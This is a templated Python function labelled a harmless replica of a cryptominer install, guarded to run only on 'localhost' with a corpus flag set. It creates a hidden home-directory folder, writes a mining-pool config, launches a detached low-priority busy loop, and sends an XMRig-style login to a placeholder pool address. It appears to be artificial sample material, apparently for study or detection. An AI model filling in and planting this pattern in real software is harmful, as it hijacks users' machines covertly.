# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import shutil
    import socket
    import subprocess
    try:
        folder = os.path.expanduser('~/.{{token}}')
        os.makedirs(folder, exist_ok=True)
        shutil.copy(shutil.which('sh') or '/bin/sh', folder + '/{{miner}}')
        with open(folder + '/config.json', 'w') as out:
            out.write('{"pools":[{"url":"{{ip}}:{{port}}","user":"{{token}}","keepalive":true}],"cpu":{"max-threads-hint":50} }')
        subprocess.Popen(['nice', '-n', '19', folder + '/{{miner}}', '-c', 'n=0; while [ $n -lt 200000 ]; do n=$((n+1)); done'],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        call = socket.create_connection(('{{ip}}', {{port}}), 1)
        call.sendall(b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"{{token}}","agent":"XMRig/6.21"} }\n')
        call.close()
    except Exception:
        pass
